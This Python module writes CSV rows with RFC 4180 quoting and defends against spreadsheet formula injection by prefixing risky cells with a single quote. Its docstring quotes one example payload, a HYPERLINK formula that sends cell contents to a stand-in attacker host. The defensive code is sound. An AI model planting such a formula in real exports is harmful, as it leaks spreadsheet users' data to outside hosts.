"""CSV text: quoting each field that needs it, and cells made safe for spreadsheet programs.

Python's :mod:`csv` writer quotes a field holding the delimiter, the quote character or a
character of its *line terminator*; with ``lineterminator="\\n"`` a carriage return inside a
value goes out unquoted (``RT1,第一行\\r第二行``) and splits the row for every reader. So the
files that must read back exactly (the interchange export, the audit trail's file, the
compliance report for tools) are written with :func:`csv_line`, RFC 4180 quoting with ``\\n``
line ends.

Files made for people to open in a spreadsheet program (the RACI matrix, the compliance
report's CSV) also pass every cell through :func:`spreadsheet_cell`: a cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run as a formula
(``=HYPERLINK("http://evil.example/?"&A1,"点击")``), so it gets a leading single quote, as the
OWASP "CSV Injection" page advises. The interchange export does not: it is a data format that
round-trips byte for byte.
"""

from __future__ import annotations

from collections.abc import Iterable

#: a field holding one of these is quoted (RFC 4180: delimiter, quote, line breaks)
NEEDS_QUOTES = frozenset(',"\r\n')
#: the first characters that make a spreadsheet program read a cell as a formula (OWASP)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def quoted(field: str) -> str:
    """One field as CSV text: in double quotes (inner quotes doubled) when it needs them."""
    if NEEDS_QUOTES.isdisjoint(field):
        return field
    return '"' + field.replace('"', '""') + '"'


def csv_line(fields: Iterable[str]) -> str:
    """One row of CSV text, ending in ``\\n``."""
    return ",".join(quoted(f) for f in fields) + "\n"


def spreadsheet_cell(text: str) -> str:
    """``text`` as a spreadsheet program must show it, never run it: a leading ``'`` when it
    starts like a formula (OWASP CSV Injection)."""
    return "'" + text if text.startswith(FORMULA_START) else text
